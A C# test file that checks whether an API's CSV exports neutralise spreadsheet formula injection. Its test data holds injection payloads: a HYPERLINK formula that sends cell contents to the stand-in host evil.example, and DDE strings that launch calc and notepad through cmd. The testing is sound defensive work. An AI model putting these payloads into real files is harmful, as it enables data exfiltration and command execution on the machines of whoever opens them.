using System.Net;
using System.Text;
using System.Text.Json.Nodes;
using BilateralApi.Tests.Events;
using BilateralApi.Tests.Infrastructure;
using nietras.SeparatedValues;

namespace BilateralApi.Tests.Querying;

/// <summary>
/// Text that a spreadsheet would run as a formula (a cell starting with =, +, -, @, tab or carriage
/// return) leaves every CSV export neutralised: prefixed with a single quote and quoted, while numbers
/// (negative ones included) stay numbers. Stored titles, imported cells and the dyad timeline alike.
/// </summary>
public sealed class CsvFormulaInjectionTests(ApiFactory factory) : IClassFixture<ApiFactory>
{
    private readonly HttpClient _client = factory.CreateWriterClient();

    private static readonly string[] Dangerous =
    [
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ];

    private static List<Dictionary<string, string>> Read(string csv)
    {
        using var reader = Sep.Reader(o => o with { Unescape = true }).FromText(csv);
        var rows = new List<Dictionary<string, string>>();
        foreach (var row in reader)
        {
            var cells = new Dictionary<string, string>(StringComparer.Ordinal);
            foreach (var name in reader.Header.ColNames)
            {
                cells[name] = row[name].ToString();
            }
            rows.Add(cells);
        }
        return rows;
    }

    [Fact]
    public async Task Stored_and_imported_text_starting_with_a_formula_character_is_prefixed_and_quoted()
    {
        for (var i = 0; i < Dangerous.Length; i++)
        {
            // Publisher, not title: titles are trimmed, and leading tabs and carriage returns are part of the attack.
            var source = System.Text.Json.JsonSerializer.SerializeToNode(Bodies.Source($"csv-formula-{i}", $"Formula {i}"), BilateralApi.Infrastructure.Json.JsonDefaults.Options)!;
            source["publisher"] = Dangerous[i];
            var response = await _client.PostAsync("/v1/sources", Json.Body(source.ToJsonString()));
            Assert.Equal(HttpStatusCode.Created, response.StatusCode);
        }
        // An imported cell is stored, then exported, the same way.
        var imported = new JsonObject
        {
            ["id"] = "csv-formula-imported", ["type"] = "news", ["author"] = null, ["publisher"] = "=cmd|' /C notepad'!A0",
            ["title"] = "Imported", ["url"] = null, ["publishedOn"] = "2024-01-01", ["retrievedOn"] = null, ["reliability"] = "B",
            ["licence"] = null, ["notes"] = null,
        };
        var import = await _client.PostAsync("/v1/sources/import", new StringContent(imported.ToJsonString(), Encoding.UTF8, "application/x-ndjson"));
        Assert.Equal(HttpStatusCode.OK, import.StatusCode);

        var csv = await _client.GetStringAsync("/v1/sources?format=csv&filter=" + Uri.EscapeDataString("startswith(id, 'csv-formula-')") + "&fields=id,title,publisher");
        var rows = Read(csv).ToDictionary(r => r["id"]);
        for (var i = 0; i < Dangerous.Length; i++)
        {
            Assert.Equal("'" + Dangerous[i], rows[$"csv-formula-{i}"]["publisher"]);
            // Quoted, so neither a separator nor a quote inside can start a new cell.
            Assert.Contains("\"'" + Dangerous[i].Replace("\"", "\"\"", StringComparison.Ordinal) + "\"", csv, StringComparison.Ordinal);
        }
        Assert.Equal("'=cmd|' /C notepad'!A0", rows["csv-formula-imported"]["publisher"]);
        // Harmless text is written as before.
        Assert.Equal("Imported", rows["csv-formula-imported"]["title"]);
        Assert.Contains("csv-formula-imported,\"'=cmd|' /C notepad'!A0\",Imported", csv, StringComparison.Ordinal);

        // NDJSON is data, not a spreadsheet: values stay exactly as stored.
        var ndjson = await _client.GetStringAsync("/v1/sources?format=ndjson&filter=" + Uri.EscapeDataString("id eq 'csv-formula-0'"));
        Assert.Equal(Dangerous[0], JsonNode.Parse(ndjson)!["publisher"]!.GetValue<string>());
    }

    [Fact]
    public async Task Negative_numbers_stay_numbers_and_the_timeline_export_is_neutralised_too()
    {
        await EventData.CreateSourceAsync(_client, "csv-formula-event-source");
        var body = EventData.Event("csv-formula-event", "csv-formula-event-source", title: "=2+5", actor: "ARM", recipient: "GEO");
        body["intensity"] = -7;
        var created = await _client.PostAsync("/v1/events", Json.Body(body.ToJsonString()));
        Assert.Equal(HttpStatusCode.Created, created.StatusCode);

        var events = await _client.GetStringAsync("/v1/events?format=csv&filter=" + Uri.EscapeDataString("id eq 'csv-formula-event'"));
        var row = Assert.Single(Read(events));
        Assert.Equal("'=2+5", row["title"]);
        Assert.Equal("-7", row["intensity"]);
        // The number is written as a bare number, not quoted or prefixed.
        Assert.Contains(",-7,", events, StringComparison.Ordinal);

        var timeline = await _client.GetStringAsync("/v1/dyads/ARM/GEO/timeline?format=csv");
        var milestone = Assert.Single(Read(timeline), r => r["id"] == "csv-formula-event");
        Assert.Equal("'=2+5", milestone["title"]);
        Assert.Contains("\"'=2+5\"", timeline, StringComparison.Ordinal);
    }
}
